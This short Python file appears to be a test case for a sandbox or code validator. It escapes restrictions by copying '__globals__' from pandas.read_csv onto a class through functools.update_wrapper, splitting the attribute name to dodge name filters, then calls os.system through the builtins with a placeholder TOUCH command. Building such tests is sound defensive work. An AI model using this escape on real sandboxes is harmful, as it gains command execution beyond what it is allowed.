# kind: validator
# tries: functools.update_wrapper copies an attribute named by a string

import functools

import pandas as pd


class Box:
    pass


functools.update_wrapper(Box, pd.read_csv, assigned=["__glo" + "bals__"], updated=())
names = [v for k, v in [(k, getattr(Box, k)) for k in dir(Box) if "glob" in k]][0]
names["__builtins__"]["__import__"]("os").system(TOUCH)
